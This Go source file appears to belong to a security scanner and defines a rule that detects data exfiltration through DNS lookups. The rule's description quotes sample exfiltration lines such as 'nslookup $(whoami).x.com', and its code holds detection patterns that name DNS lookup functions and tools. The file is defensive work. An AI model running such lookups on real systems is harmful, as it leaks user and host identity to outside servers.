package static

import (
	"strings"

	"github.com/airlock-sec/airlock/internal/analyze"
	"github.com/airlock-sec/airlock/internal/model"
	"github.com/airlock-sec/airlock/internal/rules"
)

// DNSExfil flags DNS lookups of names built from collected data.
type DNSExfil struct{}

func (DNSExfil) Meta() rules.Meta {
	return rules.Meta{
		ID:    "static/dns-exfil",
		Title: "exfiltration through DNS lookups",
		Description: "Resolving a host name built at run time (`socket.gethostbyname(data + '.' + domain)`, `dns.lookup(hex + '.x.com')`, " +
			"`nslookup $(whoami).x.com`) smuggles data out through DNS, which egress filters rarely block. Reported when the looked-up name is not a constant " +
			"and the same code collects host or user identity, or when a lookup command embeds a command substitution.",
		Severity:     model.High,
		Capabilities: []model.Capability{model.CapNetwork, model.CapExfilHost},
	}
}

var dnsCallees = map[string]bool{
	"socket.gethostbyname": true, "socket.gethostbyname_ex": true, "socket.getaddrinfo": true, "dns.resolver.resolve": true, "dns.resolver.query": true,
	"dns.lookup": true, "dns.resolve": true, "dns.resolve4": true, "dns.resolveTxt": true, "dns.promises.lookup": true, "dns.promises.resolve": true,
}

func (DNSExfil) Check(in *rules.Input, r *rules.Reporter) {
	in.EachFacts(func(f *rules.File, u *analyze.Facts) {
		recon := false
		for _, c := range u.Calls {
			if _, ok := reconCallees[c.Callee]; ok && reconCallees[c.Callee] != "" {
				recon = true
			}
		}
		for _, c := range u.Calls {
			if !dnsCallees[c.Callee] || len(c.Args) == 0 {
				continue
			}
			a := c.Args[0]
			if a.IsStr || !recon {
				continue
			}
			if strings.Contains(a.Raw, "+") || strings.Contains(a.Raw, "format") || strings.Contains(a.Raw, "{") || strings.Contains(a.Raw, "%") || strings.Contains(a.Raw, "`") || a.Name != "" && (len(u.Unit.Layers) > 0 || u.Unit.Context == model.Install) {
				fd := rules.AtCall(u, c, model.High, "resolves a host name built from collected data with "+shortQuote(c.Callee), model.CapNetwork, model.CapExfilHost)
				fd.Evidence = c.Text
				r.Report(fd)
			}
		}
		eachCommand(u, func(c analyze.Command, words []string) {
			p := cmdName(words)
			if p != "nslookup" && p != "dig" && p != "host" && p != "ping" {
				return
			}
			for _, w := range words[1:] {
				dynamic := strings.Contains(w, "$…") || strings.Contains(w, "%s") || strings.Contains(w, "{")
				if dynamic && (strings.Contains(w, ".") || recon) {
					r.Report(model.Finding{Severity: model.High, Path: u.Unit.Path, Line: c.Line, Layers: u.Unit.Layers, Context: u.Unit.Context,
						Message: shortQuote(p) + " looks up a name built from command output", Evidence: c.Raw, Capabilities: []model.Capability{model.CapNetwork, model.CapExfilHost}})
					return
				}
			}
		})
	})
}
